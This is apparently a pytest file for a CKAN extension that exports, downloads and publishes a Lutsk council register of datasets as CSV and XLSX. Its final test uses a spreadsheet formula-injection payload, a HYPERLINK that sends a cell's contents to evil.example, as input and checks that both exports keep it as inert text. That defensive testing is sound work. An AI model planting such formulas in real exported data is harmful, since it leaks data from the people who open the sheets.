"""The 835 register of datasets: export, publishing, downloads and the CLI, on the real stack."""

from __future__ import annotations

import csv
import io

import ckan.plugins.toolkit as tk
import pytest
from ckan.cli.cli import ckan
from ckan.lib import uploader
from ckan.tests import factories
from ckan.tests.helpers import call_action
from openpyxl import load_workbook

from ckanext.lutsk_charter.monitoring.register import COLUMNS
from tests.conftest import LutskDataset, LutskOrganization, site_context

pytestmark = pytest.mark.usefixtures(
    "with_plugins", "clean_db", "clean_index", "with_request_context"
)


@pytest.fixture
def held():
    """Two bodies' public datasets (with resources in two formats) and a private one."""
    culture = LutskOrganization(title="Департамент культури")
    finance = LutskOrganization(title="Департамент фінансів")
    museums = LutskDataset(
        owner_org=culture["id"],
        name="museums",
        title="Музеї",
        maintainer="Ковальчук Ірина",
        maintainer_email="i.kovalchuk@lutskrada.gov.ua",
    )
    for fmt in ("CSV", "XLSX", "csv"):
        call_action(
            "resource_create",
            context=site_context(),
            package_id=museums["id"],
            url=f"https://example.com/museums.{fmt.lower()}",
            format=fmt,
        )
    budget = LutskDataset(owner_org=finance["id"], name="budget", title="Бюджет")
    secret = LutskDataset(owner_org=finance["id"], name="secret", private=True)
    return {
        "culture": culture,
        "finance": finance,
        "museums": museums,
        "budget": budget,
        "secret": secret,
    }


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _xlsx(data: bytes) -> list[dict]:
    values = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert values[0] == COLUMNS
    return [dict(zip(COLUMNS, (v or "" for v in row), strict=True)) for row in values[1:]]


def test_export_csv_lists_each_public_dataset_once(held):
    result = call_action("lutsk_charter_register_export", format="csv")
    assert result["format"] == "csv"
    assert result["filename"].endswith(".csv")
    rows = _csv(result["content"])
    assert list(rows[0]) == list(COLUMNS)
    assert [r["identifier"] for r in rows] == ["museums", "budget"]
    museums = rows[0]
    assert museums["title"] == "Музеї"
    assert museums["description"] == held["museums"]["notes"]
    assert museums["accrualPeriodicity"] == "once a month"
    assert museums["keyword"] == "комунальна власність, майно"
    assert museums["purpose"] == held["museums"]["purpose_of_collecting_information"]
    site = tk.config["ckan.site_url"].rstrip("/")
    assert museums["landingPage"] == f"{site}/dataset/museums"
    assert museums["distributionFormat"] == "CSV, XLSX"
    assert museums["publisherPrefLabel"] == "Департамент культури"
    assert museums["publisherIdentifier"] == held["culture"]["edrpou"]
    assert museums["contactPointFn"] == "Ковальчук Ірина"
    assert museums["contactPointHasEmail"] == "i.kovalchuk@lutskrada.gov.ua"


def test_export_xlsx_and_one_body(held, app):
    result = call_action(
        "lutsk_charter_register_export", format="xlsx", organization_id=held["finance"]["name"]
    )
    assert result["filename"].endswith(".xlsx")
    assert held["finance"]["name"] in result["filename"]
    assert "content" not in result  # no base64 workbook through the API
    assert [r["identifier"] for r in result["records"]] == ["budget"]
    # The page makes the workbook of the same rows.
    response = app.get(f"/dataset-register.xlsx?organization={held['finance']['name']}")
    assert response.status_code == 200
    assert result["filename"] in response.headers["Content-Disposition"]
    rows = _xlsx(response.data)
    assert [r["identifier"] for r in rows] == ["budget"]
    assert rows[0]["publisherIdentifier"] == held["finance"]["edrpou"]


def test_export_gathers_in_a_fixed_number_of_queries(held):
    import sqlalchemy as sa
    from ckan import model

    for _i in range(5):
        LutskDataset(owner_org=held["culture"]["id"])
    statements = []

    def count(*_args, **_kwargs):
        statements.append(1)

    engine = model.Session.get_bind()
    sa.event.listen(engine, "before_cursor_execute", count)
    try:
        result = call_action("lutsk_charter_register_export", format="csv")
    finally:
        sa.event.remove(engine, "before_cursor_execute", count)
    assert result["rows"] == 7
    assert len(statements) <= 6


def test_anyone_may_export_but_not_publish():
    assert tk.check_access("lutsk_charter_register_export", {"user": ""}, {})
    user = factories.User()
    for who in ("", user["name"]):
        with pytest.raises(tk.NotAuthorized):
            tk.check_access("lutsk_charter_register_publish", {"user": who}, {})


def test_downloads(app, held):
    response = app.get("/dataset-register.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.bytes.startswith(b"\xef\xbb\xbf")
    assert [r["identifier"] for r in _csv(response.bytes.decode("utf-8-sig"))] == [
        "museums",
        "budget",
    ]
    response = app.get("/dataset-register.xlsx")
    assert response.status_code == 200
    assert ".xlsx" in response.headers["Content-Disposition"]
    assert [r["identifier"] for r in _xlsx(response.bytes)] == ["museums", "budget"]


def _stored(resource: dict) -> bytes:
    path = uploader.get_resource_uploader(resource).get_path(resource["id"])
    with open(path, "rb") as f:
        return f.read()


def test_publish_creates_then_updates(held, ckan_config, monkeypatch):
    monkeypatch.setitem(
        ckan_config, "ckanext.lutsk_charter.register.organization", held["culture"]["name"]
    )
    first = call_action("lutsk_charter_register_publish", context=site_context())
    assert first["created"] is True
    assert first["name"] == "reiestr-naboriv-danykh"
    dataset = call_action("package_show", id="reiestr-naboriv-danykh")
    assert dataset["owner_org"] == held["culture"]["id"]
    assert dataset["update_frequency"] == "once a day"
    assert dataset["license_id"] == "cc-by"
    assert dataset["private"] is False
    assert {r["format"] for r in dataset["resources"]} == {"CSV", "XLSX"}
    by_format = {r["format"]: r for r in dataset["resources"]}
    rows = _csv(_stored(by_format["CSV"]).decode("utf-8-sig"))
    assert {r["identifier"] for r in rows} == {"museums", "budget", "reiestr-naboriv-danykh"}

    LutskDataset(owner_org=held["finance"]["id"], name="schools")
    second = call_action("lutsk_charter_register_publish", context=site_context())
    assert second["created"] is False
    assert second["dataset_id"] == first["dataset_id"]
    assert second["resources"] == first["resources"]
    dataset = call_action("package_show", id="reiestr-naboriv-danykh")
    assert len(dataset["resources"]) == 2
    by_format = {r["format"]: r for r in dataset["resources"]}
    assert "schools" in {r["identifier"] for r in _xlsx(_stored(by_format["XLSX"]))}
    assert "schools" in {
        r["identifier"] for r in _csv(_stored(by_format["CSV"]).decode("utf-8-sig"))
    }


def test_publish_without_the_body_set_is_refused_in_ukrainian():
    sysadmin = factories.Sysadmin()
    with pytest.raises(tk.ValidationError) as refused:
        tk.get_action("lutsk_charter_register_publish")(
            {"user": sysadmin["name"], "ignore_auth": False}, {}
        )
    assert refused.value.error_dict["organization"] == [
        "Вкажіть у ckanext.lutsk_charter.register.organization розпорядника, "
        "який оприлюднює реєстр наборів даних."
    ]


@pytest.mark.ckan_config("ckanext.lutsk_charter.register.organization", "no-such-body")
def test_publish_to_a_missing_body_is_refused():
    with pytest.raises(tk.ValidationError) as refused:
        call_action("lutsk_charter_register_publish", context=site_context())
    assert "no-such-body" in refused.value.error_dict["organization"][0]


def test_cli_export_and_publish(cli, held, tmp_path, ckan_config, monkeypatch):
    target = tmp_path / "register.xlsx"
    result = cli.invoke(
        ckan, ["lutsk-charter", "register", "export", "--format", "xlsx", str(target)]
    )
    assert result.exit_code == 0, result.output
    assert [r["identifier"] for r in _xlsx(target.read_bytes())] == ["museums", "budget"]

    refused = cli.invoke(ckan, ["lutsk-charter", "register", "publish"])
    assert refused.exit_code != 0
    assert "ckanext.lutsk_charter.register.organization" in refused.output

    # the command reads test.ini again, which leaves options it does not set alone
    monkeypatch.setitem(
        ckan_config, "ckanext.lutsk_charter.register.organization", held["culture"]["name"]
    )
    published = cli.invoke(ckan, ["lutsk-charter", "register", "publish"])
    assert published.exit_code == 0, published.output
    assert "Register of datasets created: reiestr-naboriv-danykh, 3 dataset(s)" in published.output
    again = cli.invoke(ckan, ["lutsk-charter", "register", "publish"])
    assert "Register of datasets updated" in again.output


def test_a_formula_in_a_title_stays_text_in_both_downloads(app):
    """Issue 11 item 5: ``=HYPERLINK(...)`` must not become a live formula (OWASP CSV injection)."""
    body = LutskOrganization(title="@Орган")
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Натисніть тут")'
    LutskDataset(
        owner_org=body["id"],
        name="formula",
        title=attack,
        maintainer="+380 Іваненко",
        update_frequency="once a month",
    )
    csv_rows = list(
        csv.DictReader(io.StringIO(app.get("/dataset-register.csv").get_data().decode("utf-8-sig")))
    )
    (row,) = csv_rows
    assert row["title"] == "'" + attack  # readable, and no spreadsheet runs it
    assert row["publisherPrefLabel"] == "'@Орган"
    assert row["contactPointFn"] == "'+380 Іваненко"
    assert row["accrualPeriodicity"] == "once a month"  # the code, for machines
    assert row["accrualPeriodicityLabel"] == "Щомісяця"  # and in words

    sheet = load_workbook(io.BytesIO(app.get("/dataset-register.xlsx").get_data())).active
    header = [c.value for c in sheet[1]]
    title = sheet.cell(row=2, column=header.index("title") + 1)
    assert title.value == attack
    assert title.data_type == "s"
    assert title.quotePrefix
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert sheet.freeze_panes == "A2"
